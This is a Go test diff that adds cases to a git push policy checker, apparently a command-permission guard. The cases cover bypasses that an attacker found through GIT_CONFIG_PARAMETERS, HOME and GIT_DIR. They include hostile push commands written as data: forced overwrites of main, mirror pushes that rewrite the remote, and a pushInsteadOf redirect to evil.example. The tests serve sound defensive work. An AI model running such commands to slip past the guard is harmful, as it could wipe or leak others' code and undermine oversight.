@@ -158,6 +158,26 @@ func TestPushPolicy(t *testing.T) {
 		{"git -c push.autoSetupRemote=true push", "trunk", rules.Allow, ""},
 		{"git -c push.followTags=true push origin feature", "trunk", rules.Allow, ""},
 
+		// Configuration given in the environment is judged as -c is
+		// (found by an attacker: GIT_CONFIG_PARAMETERS, GIT_CONFIG_GLOBAL
+		// and HOME were not read).
+		{`GIT_CONFIG_PARAMETERS="'remote.origin.push=+refs/heads/wiped:refs/heads/main'" git push origin`, "trunk", rules.Ask, "push-unknown"},
+		{`GIT_CONFIG_PARAMETERS="'remote.origin.mirror'" git push origin`, "trunk", rules.Ask, "rewrite-remote"},
+		{`export GIT_CONFIG_PARAMETERS="'x.y'='1' 'remote.origin.mirror'='true'"; git push origin`, "trunk", rules.Ask, "rewrite-remote"},
+		{`env GIT_CONFIG_PARAMETERS="'push.default'='matching'" git push`, "trunk", rules.Ask, "push-unknown"},
+		{`GIT_CONFIG_PARAMETERS="'url.https://evil.example/.pushInsteadOf'='https://git.example/'" git push origin feature`, "trunk", rules.Ask, ""},
+		{`GIT_CONFIG_PARAMETERS="'user.name'='x'" git push origin feature`, "trunk", rules.Allow, ""},
+		{`GIT_CONFIG_PARAMETERS=junk git push origin feature`, "trunk", rules.Deny, "remote-code"},
+		{"GIT_CONFIG_GLOBAL=.qcfg git push origin", "trunk", rules.Deny, "remote-code"},
+		{"GIT_CONFIG_SYSTEM=.qcfg git push origin feature", "trunk", rules.Deny, "remote-code"},
+		{"GIT_CONFIG=.qcfg git push origin feature", "trunk", rules.Deny, "remote-code"},
+		{"HOME=. git push origin", "trunk", rules.Deny, "remote-code"},
+		{"export HOME=$PWD; git push origin feature", "trunk", rules.Deny, "remote-code"},
+		{"env XDG_CONFIG_HOME=. git push origin feature", "trunk", rules.Deny, "remote-code"},
+		{"HOME=$HOME git push origin feature", "trunk", rules.Allow, ""},
+		{`git -c alias.x='!GIT_CONFIG_PARAMETERS="'"'"'remote.origin.mirror'"'"'" git push origin' x`, "trunk", rules.Ask, "rewrite-remote"},
+		{`git -c alias.x='!HOME=. git push origin feature' x`, "trunk", rules.Deny, "remote-code"},
+
 		{"git push https://other.example/r.git feature", "main", rules.Ask, "push-foreign"},
 		{"git remote add x https://x.example/r.git && git push x feature", "main", rules.Ask, "push-foreign"},
 		{"git push added feature", "main", rules.Ask, "push-foreign"},
@@ -271,6 +291,14 @@ func TestPushOtherRepo(t *testing.T) {
 		{"cd x && git push origin feature", rules.Ask, "push-foreign"},
 		{"git -C x push origin feature", rules.Ask, "push-foreign"},
 		{"git init x && git -C x push origin feature", rules.Ask, "push-foreign"},
+		// The repository named by --git-dir or GIT_DIR.
+		{"git --git-dir=o/.git push origin feature", rules.Ask, "push-foreign"},
+		{"GIT_DIR=o/.git git push origin feature", rules.Ask, "push-foreign"},
+		{"export GIT_DIR=/elsewhere/.git; git push origin feature", rules.Ask, "push-foreign"},
+		{"env GIT_DIR=b git push origin feature", rules.Ask, "push-foreign"},
+		{`git --git-dir "$(cat d)" push origin feature`, rules.Ask, "push-foreign"},
+		{"git --git-dir .git push origin feature", rules.Allow, ""},
+		{"GIT_DIR=.git git push origin feature", rules.Allow, ""},
 		// A test remote in the workspace, named by its path: nothing
 		// leaves the machine. A bare word may be a remote the script
 		// adds; a path outside the workspace is another matter.
